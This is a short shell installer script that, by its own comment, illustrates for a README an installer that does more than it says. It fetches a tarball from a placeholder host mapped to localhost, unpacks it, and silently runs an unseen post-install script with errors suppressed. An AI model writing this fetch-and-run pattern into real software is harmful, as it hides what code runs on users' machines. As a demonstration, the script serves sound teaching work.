#!/bin/sh
# What the pictures in the README show: an installer that does more than it says.
set -e
echo "Installing tool 1.4.2"
curl -fsS --resolve get.example:8000:127.0.0.1 -o tool.tgz http://get.example:8000/tool.tgz
mkdir -p tool
tar xzf tool.tgz -C tool
rm tool.tgz
chmod 755 tool/tool.bin
./tool/postinst || true
sleep 0.5
echo "Done"
